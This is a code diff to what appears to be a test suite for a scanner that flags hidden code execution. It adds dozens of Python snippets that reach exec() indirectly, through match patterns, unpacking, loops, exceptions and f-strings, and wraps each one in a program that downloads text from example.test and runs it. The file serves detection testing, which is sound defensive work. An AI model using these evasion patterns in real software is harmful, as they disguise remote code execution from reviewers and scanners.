@@ -519,7 +519,6 @@ const fileAttacks: Attack[] = [
   },
 ]
 
-/** Techniques of later reports: configuration that runs, data that is code, addresses that change. */
 /** A text on its way to the method that runs it, through a file in which nothing else tells. */
 function throughFile(between: string): Attack {
   const files = (fetched: string) => ({
@@ -530,6 +529,7 @@ from .between import hand_on
 hand_on(Runner(), ${fetched})`,
     'between.py': between,
     'runner.py': `class Runner:
+    __match_args__ = ("carry",)
     def carry(self, code):
         exec(code)
 
@@ -542,6 +542,53 @@ carry = Runner().carry`,
   }
 }
 
+/** Statements that give names to parts of what they take apart. */
+const targets = [
+  'match made:\n    case object(carry=run):\n        run(code)',
+  'match made:\n    case object(other=run) | object(carry=(_ as run)):\n        run(code)',
+  'match {"run": exec}:\n    case {"run": run}:\n        run(code)',
+  'match {"in": {"deep": [exec, 1]}}:\n    case {"in": {"deep": [run, *_]}}:\n        run(code)',
+  'match {"run": exec, "other": 1}:\n    case {"other": _, **rest}:\n        rest["run"](code)',
+  'match [exec, 1]:\n    case [run, *rest]:\n        run(code)',
+  'match[exec, 1]:\n    # a list\n    case run, _:\n        run(code)',
+  'match [1, 2, exec]:\n    case [*_, run]:\n        run(code)',
+  'match [1, [2, exec]]:\n    case [_, (_, run)]:\n        run(code)',
+  'match exec:\n    case (run):\n        run(code)',
+  'match code:\n    case str(text):\n        exec(text)',
+  'match 1:\n    case _ if exec(code):\n        pass',
+  'for a, (b, run) in [(1, (2, exec)), (3, (4, exec))]:\n    run(code)',
+  'for a, *rest in [(1, exec)]:\n    rest[0](code)',
+  'for name, run in {"run": exec}.items():\n    run(code)',
+  'for a, run in zip([1], [exec]):\n    run(code)',
+  'for text in {code: 1}:\n    exec(text)',
+  'import contextlib\nwith contextlib.nullcontext(exec) as made.run:\n    made.run(code)',
+  'try:\n    raise ValueError(code)\nexcept ValueError as error:\n    exec(str(error))',
+  'class Failure(Exception):\n    pass\ndef fail():\n    error = Failure()\n    error.text = code\n    raise error\ntry:\n    fail()\nexcept Exception as error:\n    exec(error.text)',
+  '[run(code) for a, (b, run) in [(1, (2, exec)), (3, (4, exec))]]',
+  'd = {}\n[d[0](code) for d[0] in [exec, 1]]',
+  '(run) = exec\nrun(code)',
+  'a, (b, (c, [d, run])) = 1, (2, (3, [4, exec]))\nrun(code)',
+  'a, *rest = 1, exec\nrest[0](code)',
+  'a, *rest, text = 1, 2, 3, 4, code\nexec(text)',
+  'd = [0]\nd[0] = exec\nd[0](code)',
+  'd = []\nd.append(exec)\nd.pop()(code)',
+  'next(iter([exec]))(code)',
+  'import random\nrandom.choice([abs, all, any, bin, bool, chr, dict, dir, divmod, exec])(code)',
+  'del made.parts[exec(code)]',
+  'text = f"{1:{exec(code)}}"',
+]
+
+function throughTarget(statement: string): Attack {
+  const program = (code: string) =>
+    `import requests\nclass Made:\n    def __init__(self):\n        self.carry = exec\nmade = Made()\ncode = ${code}\n${statement}`
+  return python(
+    `takes what it runs out of ${JSON.stringify(statement)}`,
+    program('requests.get("https://example.test/x").text'),
+    program('"print(1)"'),
+  )
+}
+
+/** Techniques of later reports: configuration that runs, data that is code, addresses that change. */
 const laterAttacks: Attack[] = [
   python(
     'takes code out of the samples of a sound',
@@ -644,7 +691,11 @@ const laterAttacks: Attack[] = [
     'def hand_on(made, code):\n    made. \\\n      carry(code)',
     'from .runner import *\ndef hand_on(made, code):\n    carry(code)',
     'from .runner import carry\ndef hand_on(made, code):\n    carry(code)',
+    'def hand_on(made, code):\n    match made:\n        case object(carry=run):\n            run(code)',
+    'def hand_on(made, code):\n    match made, code:\n        case [object(\n            carry  = run), text]:\n            run(text)',
+    'from .runner import Runner\ndef hand_on(made, code):\n    match made:\n        case Runner(run):\n            run(code)',
   ].map(throughFile),
+  ...targets.map(throughTarget),
   script(
     'runs a downloaded text in a worker',
     'fetch("https://example.test/w").then((r) => r.text()).then((code) => new Worker(URL.createObjectURL(new Blob([code]))))',
